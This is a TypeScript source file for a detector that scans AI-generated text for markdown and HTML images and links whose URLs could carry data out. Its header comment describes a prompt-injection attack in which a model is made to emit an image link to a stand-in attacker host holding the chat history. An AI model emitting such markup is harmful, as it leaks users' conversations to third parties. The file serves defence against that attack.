/**
 * Data exfiltration through rendered markup (issue 3, scope 3; OWASP LLM02 Sensitive Information
 * Disclosure via LLM05 Improper Output Handling; MITRE ATLAS AML.T0057). An injected instruction
 * makes the model emit `![x](https://attacker/?q=<chat history>)`; the client renders the image
 * and the browser sends the data without a click. Links need a click and are judged more strictly.
 *
 * Recognised markup: CommonMark inline images and links, reference-style images and links with
 * their link reference definitions (CommonMark §4.7), and HTML tags whose URL attributes load or
 * navigate (img, iframe, script, source, video, audio, embed, object, link, input, a). Each URL
 * is judged by `assessUrl`: ordinary links without data-carrying parts are not flagged.
 *
 * All scans are linear: `indexOf` loops with bounded look-back/look-ahead, no regular expression
 * over the whole text.
 */
import { z } from "zod";
import type { Detector, Finding, PreparedText, ScanOptions, Severity, TextView } from "../types.js";
import { assessUrl } from "./url.js";

export const exfiltrationOptionsSchema = z
  .object({
    /** Hosts (and their subdomains) the application itself serves images or links from. */
    allowedHosts: z.array(z.string().min(1).toLowerCase()).default([]),
    /** Minimum URL score to report an auto-loading image or embed. */
    imageThreshold: z.number().min(0).max(1).default(0.6),
    /**
     * Minimum URL score to report a link, which needs a click. Above a sentence (0.8: search links
     * carry sentences), so links are reported for placeholders, personal data and credentials.
     */
    linkThreshold: z.number().min(0).max(1).default(0.85),
  })
  .strict();

export type ExfiltrationOptions = z.input<typeof exfiltrationOptionsSchema>;

type Kind =
  "markdown_image" | "markdown_link" | "reference_image" | "reference_link" | "html_image" | "html_link";

interface Candidate {
  kind: Kind;
  url: string;
  /** Span of the whole construct in the scanned view. */
  start: number;
  end: number;
  autoload: boolean;
}

/** Longest URL and alt text looked at: real ones are far shorter, and it bounds the work. */
const MAX_URL = 4096;
const MAX_LABEL = 1000;
const MAX_CANDIDATES = 512;
/**
 * Markup sites examined per scan and construct type. Each costs at most MAX_URL + MAX_LABEL
 * steps, so a text of nothing but "](" stays bounded; a payload hidden behind more decoys than
 * this is missed (a documented limit).
 */
const MAX_SITES = 4096;

/** Last index of `ch` in text[from - limit, from), or -1. */
function findBack(text: string, ch: number, from: number, limit: number): number {
  for (let i = from - 1; i >= 0 && from - i <= limit; i--) if (text.charCodeAt(i) === ch) return i;
  return -1;
}

/** First index of `ch` in text[from, from + limit), or -1. */
function findForward(text: string, ch: number, from: number, limit: number): number {
  const end = Math.min(text.length, from + limit);
  for (let i = from; i < end; i++) if (text.charCodeAt(i) === ch) return i;
  return -1;
}

/** Reads a link destination starting at `i` (CommonMark §6.3): `<…>` or a run with balanced parens. */
function readDestination(text: string, i: number): { url: string; end: number } | undefined {
  const n = text.length;
  while (i < n && (text[i] === " " || text[i] === "\t")) i++;
  if (text[i] === "<") {
    const close = findForward(text, 0x3e, i + 1, MAX_URL);
    if (close < 0) return undefined;
    return { url: text.slice(i + 1, close), end: close + 1 };
  }
  let depth = 0;
  let j = i;
  for (; j < n && j - i < MAX_URL; j++) {
    const c = text.charCodeAt(j);
    if (c <= 0x20) break;
    if (c === 0x28) depth++;
    else if (c === 0x29) {
      if (depth === 0) break;
      depth--;
    }
  }
  return j > i ? { url: text.slice(i, j), end: j } : undefined;
}

/** Inline `[text](url)` and `![alt](url)`. */
function inlineLinks(text: string, out: Candidate[]): void {
  let sites = 0;
  for (let p = text.indexOf("](", 0); p >= 0 && out.length < MAX_CANDIDATES; p = text.indexOf("](", p + 2)) {
    if (++sites > MAX_SITES) return;
    const open = findBack(text, 0x5b, p, MAX_LABEL);
    if (open < 0) continue;
    const dest = readDestination(text, p + 2);
    if (!dest) continue;
    const close = findForward(text, 0x29, dest.end, MAX_LABEL);
    const end = close >= 0 ? close + 1 : dest.end;
    const image = open > 0 && text[open - 1] === "!";
    out.push({
      kind: image ? "markdown_image" : "markdown_link",
      url: dest.url,
      start: image ? open - 1 : open,
      end,
      autoload: image,
    });
  }
}

/** Link reference definitions `[label]: url` and the images and links that use them. */
function referenceLinks(text: string, out: Candidate[]): void {
  const defs = new Map<string, { url: string; start: number; end: number }>();
  let sites = 0;
  for (let p = text.indexOf("]:"); p >= 0 && defs.size < MAX_CANDIDATES; p = text.indexOf("]:", p + 2)) {
    if (++sites > MAX_SITES) break;
    const open = findBack(text, 0x5b, p, MAX_LABEL);
    if (open < 0) continue;
    // A definition starts its line, indented by at most three spaces.
    const lineStart = open === 0 ? 0 : findBack(text, 0x0a, open, 4) + 1;
    if ((lineStart === 0 && open > 3) || text.slice(lineStart, open).trim() !== "") continue;
    const dest = readDestination(text, p + 2);
    if (!dest) continue;
    const label = text
      .slice(open + 1, p)
      .trim()
      .toLowerCase();
    if (!defs.has(label)) defs.set(label, { url: dest.url, start: lineStart, end: dest.end });
  }
  if (defs.size === 0) return;
  // Which labels are used by images (`![alt][label]`, `![label][]`, `![label]`)?
  const imageLabels = new Set<string>();
  sites = 0;
  for (let p = text.indexOf("!["); p >= 0 && ++sites <= MAX_SITES; p = text.indexOf("![", p + 2)) {
    const close = findForward(text, 0x5d, p + 2, MAX_LABEL);
    if (close < 0) continue;
    let label = text.slice(p + 2, close);
    if (text[close + 1] === "[") {
      const close2 = findForward(text, 0x5d, close + 2, MAX_LABEL);
      if (close2 > close + 2) label = text.slice(close + 2, close2);
    }
    imageLabels.add(label.trim().toLowerCase());
  }
  for (const [label, def] of defs) {
    if (out.length >= MAX_CANDIDATES) break;
    const image = imageLabels.has(label);
    out.push({
      kind: image ? "reference_image" : "reference_link",
      url: def.url,
      start: def.start,
      end: def.end,
      autoload: image,
    });
  }
}

/** Tags whose URL attributes the browser fetches without a click. */
const AUTOLOAD_TAGS = new Set([
  "img",
  "image",
  "iframe",
  "frame",
  "script",
  "source",
  "video",
  "audio",
  "embed",
  "object",
  "link",
  "input",
  "track",
]);
const URL_ATTRIBUTES = new Set([
  "src",
  "href",
  "srcset",
  "poster",
  "data",
  "background",
  "action",
  "formaction",
]);

/** HTML tags with URL attributes; attributes are parsed by hand (HTML §13.2.5.32–40, simplified). */
function htmlTags(text: string, out: Candidate[]): void {
  const n = text.length;
  let nextGt = -1;
  let sites = 0;
  for (let p = text.indexOf("<"); p >= 0 && out.length < MAX_CANDIDATES; p = text.indexOf("<", p + 1)) {
    let q = p + 1;
    while (q < n && q - p < 16 && /[A-Za-z]/.test(text[q] as string)) q++;
    const tag = text.slice(p + 1, q).toLowerCase();
    if (tag !== "a" && !AUTOLOAD_TAGS.has(tag)) continue;
    if (++sites > MAX_SITES) return;
    // The next ">" is found once and reused, so many "<img" without ">" stay linear.
    if (nextGt < q) nextGt = text.indexOf(">", q);
    if (nextGt < 0) return;
    if (nextGt - q > MAX_URL) continue;
    const attrs = text.slice(q, nextGt);
    for (const { name, value } of attributes(attrs)) {
      if (!URL_ATTRIBUTES.has(name)) continue;
      // srcset holds "url 1x, url 2x": judge each URL.
      const urls = name === "srcset" ? value.split(",").map((s) => s.trim().split(/\s+/)[0] ?? "") : [value];
      for (const url of urls) {
        out.push({
          kind: tag === "a" ? "html_link" : "html_image",
          url,
          start: p,
          end: nextGt + 1,
          autoload: tag !== "a",
        });
      }
    }
  }
}

function* attributes(s: string): Generator<{ name: string; value: string }> {
  let i = 0;
  const n = s.length;
  while (i < n) {
    while (i < n && /[\s/]/.test(s[i] as string)) i++;
    const nameStart = i;
    while (i < n && !/[\s/=>]/.test(s[i] as string)) i++;
    const name = s.slice(nameStart, i).toLowerCase();
    if (!name) {
      i++;
      continue;
    }
    while (i < n && /\s/.test(s[i] as string)) i++;
    if (s[i] !== "=") {
      yield { name, value: "" };
      continue;
    }
    i++;
    while (i < n && /\s/.test(s[i] as string)) i++;
    let value: string;
    const quote = s[i];
    if (quote === '"' || quote === "'") {
      const close = s.indexOf(quote, i + 1);
      const end = close < 0 ? n : close;
      value = s.slice(i + 1, end);
      i = end + 1;
    } else {
      const start = i;
      while (i < n && !/\s/.test(s[i] as string)) i++;
      value = s.slice(start, i);
    }
    yield { name, value: decodeEntities(value) };
  }
}

/** The few character references that matter inside URLs (HTML §13.5). */
function decodeEntities(s: string): string {
  if (!s.includes("&")) return s;
  return s
    .replace(/&amp;/gi, "&")
    .replace(/&quot;/gi, '"')
    .replace(/&#x([0-9a-f]{1,6});/gi, (_m, h: string) =>
      String.fromCodePoint(Math.min(parseInt(h, 16), 0x10ffff)),
    )
    .replace(/&#([0-9]{1,7});/g, (_m, d: string) =>
      String.fromCodePoint(Math.min(parseInt(d, 10), 0x10ffff)),
    );
}

function severity(score: number, autoload: boolean): Severity {
  if (!autoload) return "medium";
  return score >= 0.8 ? "high" : "medium";
}

export function createExfiltrationDetector(options: ExfiltrationOptions = {}): Detector {
  const opts = exfiltrationOptionsSchema.parse(options);

  function scanView(view: TextView, findings: Finding[], seen: Set<string>): void {
    const text = view.text;
    const candidates: Candidate[] = [];
    // Cheap gates: no markup characters, no work.
    if (text.includes("](")) inlineLinks(text, candidates);
    if (text.includes("]:")) referenceLinks(text, candidates);
    if (text.includes("<")) htmlTags(text, candidates);
    for (const c of candidates) {
      const assessed = assessUrl(c.url, opts.allowedHosts);
      if (!assessed) continue;
      if (assessed.score < (c.autoload ? opts.imageThreshold : opts.linkThreshold)) continue;
      const span = view.toOriginal(c.start, c.end);
      const key = `${span[0]}:${span[1]}`;
      if (seen.has(key)) continue;
      seen.add(key);
      findings.push({
        detector: "exfiltration",
        kind: c.kind,
        category: "exfiltration",
        severity: severity(assessed.score, c.autoload),
        score: assessed.score,
        span,
        evidence: assessed.masked,
        rule: `exfiltration.${c.kind}`,
        reason: `${c.autoload ? "auto-loading" : "clickable"} URL: ${assessed.reason}`,
      });
    }
  }

  return {
    id: "exfiltration",
    categories: ["exfiltration"],
    scan(input: PreparedText, _options: ScanOptions): Finding[] {
      const findings: Finding[] = [];
      const seen = new Set<string>();
      // Markup is read in the original and in its normalised forms (fullwidth "！［］（）" and
      // homoglyph punctuation fold to ASCII there); decoded segments are not rendered.
      for (const view of input.views) if (view.depth === 0) scanView(view, findings, seen);
      return findings.sort((a, b) => (a.span?.[0] ?? 0) - (b.span?.[0] ?? 0));
    },
  };
}
